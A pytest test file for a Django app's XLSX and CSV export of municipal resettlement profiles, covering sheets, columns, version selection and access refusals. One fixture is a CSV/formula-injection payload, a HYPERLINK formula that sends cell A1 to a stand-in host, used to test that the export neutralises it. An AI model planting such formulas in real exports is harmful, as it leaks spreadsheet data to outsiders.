"""IMDi's export of a round's profiles: sheets and columns, accepted by default, submitted on
request, always the submitted version (never a draft), formulas neutralised, and refusals."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from skjema import services
from skjema.models import MunicipalityProfile

from .conftest import OFFER, fill_profile

pytestmark = pytest.mark.django_db

YEAR = 2027
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Klikk her")'


def url(name):
    return reverse(f"skjema:{name}", args=[YEAR])


def profile(round_, number):
    return MunicipalityProfile.objects.get(round=round_, municipality__number=number)


@pytest.fixture
def round_with_states(opened, users):
    """Skien accepted, Porsgrunn submitted, Oslo a filled-in draft."""
    county_b, county_a, imdi = users["fylke_b"], users["fylke_a"], users["imdi"]
    offers = [
        {**OFFER, "description": FORMULA},
        {**OFFER, "name": "+47 Norskkurs", "description": "-5 % frafall", "partners": "@NAV"},
    ]
    skien = fill_profile(profile(opened, "4003"), county_b, qualification=offers)
    services.submit(skien, county_b)
    services.accept(skien, imdi)
    porsgrunn = fill_profile(profile(opened, "4001"), county_b)
    services.submit(porsgrunn, county_b)
    fill_profile(profile(opened, "0301"), county_a)
    return opened


def xlsx(client, user, query=""):
    client.force_login(user)
    response = client.get(url("export-xlsx") + query)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def csv_rows(client, user, query):
    client.force_login(user)
    response = client.get(url("export-csv") + query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def numbers(sheet):
    columns = [cell.value for cell in sheet[1]]
    index = columns.index("Kommunenummer")
    return [row[index] for row in sheet.iter_rows(min_row=2, values_only=True)]


class TestXlsx:
    def test_sheets_columns_and_only_accepted(self, client, round_with_states, users):
        workbook = xlsx(client, users["imdi"])
        assert workbook.sheetnames == [
            "Profiler",
            "Kvalifiseringstilbud",
            "Videregående opplæring",
            "Interkommunalt samarbeid",
            "Arbeidskraftbehov",
            "Kapasitet",
        ]
        overview = workbook["Profiler"]
        assert [c.value for c in overview[1]][:8] == [
            "Fylkesnummer",
            "Fylke",
            "Kommunenummer",
            "Kommune",
            "Status",
            "Versjon",
            "Sendt inn",
            "Etter fristen",
        ]
        assert numbers(overview) == ["4003"]
        number = overview["C2"]
        assert (number.value, number.data_type, number.number_format) == ("4003", "s", "@")

        labour = workbook["Arbeidskraftbehov"]
        headers = [c.value for c in labour[1]]
        assert headers[4:8] == [
            "Rad-ID",
            "Yrke (STYRK-08)",
            "Yrke (STYRK-08) – navn",
            "Kompetansenivå",
        ]
        row = dict(zip(headers, next(labour.iter_rows(min_row=2, values_only=True)), strict=True))
        assert row["Yrke (STYRK-08)"] == "53"
        assert row["Yrke (STYRK-08) – navn"] == "Pleie- og omsorgsarbeidere"
        assert row["Kompetansenivå"] == "Fagbrev"
        # Repeating sections: one line per row.
        assert numbers(workbook["Kvalifiseringstilbud"]) == ["4003", "4003"]
        capacity = workbook["Kapasitet"]
        capacity_row = dict(
            zip(
                [c.value for c in capacity[1]],
                next(capacity.iter_rows(min_row=2, values_only=True)),
                strict=True,
            )
        )
        assert capacity_row["Antall kommunen kan bosette"] == 25  # a number, not text
        assert capacity_row["Tar imot enslige mindreårige"] == "Ja"

    def test_submitted_includes_every_submitted_but_never_drafts(
        self, client, round_with_states, users
    ):
        workbook = xlsx(client, users["imdi"], "?status=submitted")
        assert numbers(workbook["Profiler"]) == ["4001", "4003"]
        assert "0301" not in numbers(workbook["Kapasitet"])

    def test_the_submitted_version_not_the_working_copy(self, client, round_with_states, users):
        skien = profile(round_with_states, "4003")
        services.reopen(skien, users["imdi"], reason="Kapasiteten må oppdateres.")
        ids = services.latest_edit_ids(skien)
        services.save_section(
            skien,
            "capacity",
            {"capacity": 99, "capacity_comment": "Uferdig utkast"},
            users["fylke_b"],
            base_edit_id=ids["capacity"],
        )
        workbook = xlsx(client, users["imdi"], "?status=submitted")
        capacity = workbook["Kapasitet"]
        values = [c for row in capacity.iter_rows(values_only=True) for c in row]
        assert 25 in values and 99 not in values and "Uferdig utkast" not in values
        # Reopened means no longer accepted: gone from the default export.
        assert numbers(xlsx(client, users["imdi"])["Profiler"]) == []

    def test_formulas_are_neutralised(self, client, round_with_states, users):
        sheet = xlsx(client, users["imdi"])["Kvalifiseringstilbud"]
        headers = [c.value for c in sheet[1]]
        cells = {
            (row[0].row, headers[row_index]): cell
            for row in sheet.iter_rows(min_row=2)
            for row_index, cell in enumerate(row)
        }
        description = cells[(2, "Beskrivelse")]
        assert description.value == "'" + FORMULA
        assert description.data_type == "s"
        assert cells[(3, "Navn på tilbudet")].value == "'+47 Norskkurs"
        assert cells[(3, "Beskrivelse")].value == "'-5 % frafall"
        assert cells[(3, "Samarbeidspartnere")].value == "'@NAV"
        assert not any(cell.data_type == "f" for cell in cells.values())

    def test_queries_are_bounded(
        self, client, round_with_states, users, django_assert_max_num_queries
    ):
        client.force_login(users["imdi"])
        with django_assert_max_num_queries(12):
            assert client.get(url("export-xlsx") + "?status=submitted").status_code == 200


class TestCsv:
    def test_one_csv_per_section(self, client, round_with_states, users):
        rows = csv_rows(client, users["imdi"], "?section=qualification")
        assert rows[0][:5] == ["Fylkesnummer", "Fylke", "Kommunenummer", "Kommune", "Rad-ID"]
        assert [row[2] for row in rows[1:]] == ["4003", "4003"]
        description = rows[0].index("Beskrivelse")
        assert rows[1][description] == "'" + FORMULA
        assert rows[2][rows[0].index("Navn på tilbudet")] == "'+47 Norskkurs"

        overview = csv_rows(client, users["imdi"], "?status=submitted")
        assert [row[2] for row in overview[1:]] == ["4001", "4003"]

    def test_unknown_section_or_status(self, client, round_with_states, users):
        client.force_login(users["imdi"])
        assert client.get(url("export-csv") + "?section=passord").status_code == 404
        assert client.get(url("export-xlsx") + "?status=draft").status_code == 404


class TestRefusals:
    @pytest.mark.parametrize("role", ["fylke_a", "fylke_b", "ks", "editor", "outsider"])
    def test_only_imdi_exports(self, client, round_with_states, users, role):
        client.force_login(users[role])
        for name in ("export", "export-xlsx", "export-csv"):
            assert client.get(url(name)).status_code == 403
        assert client.get(url("export-csv") + "?status=submitted&section=labour").status_code == 403

    def test_anonymous_is_sent_to_login(self, client, round_with_states):
        response = client.get(url("export-xlsx"))
        assert response.status_code == 302
        assert response.url.startswith(reverse("login"))

    def test_admin_may_export_and_the_page_links_the_files(self, client, round_with_states, users):
        client.force_login(users["admin"])
        page = client.get(url("export"))
        assert page.status_code == 200
        content = page.content.decode()
        assert url("export-xlsx") + "?status=submitted" in content
        assert "section=labour" in content
        assert numbers(xlsx(client, users["admin"])["Profiler"]) == ["4003"]
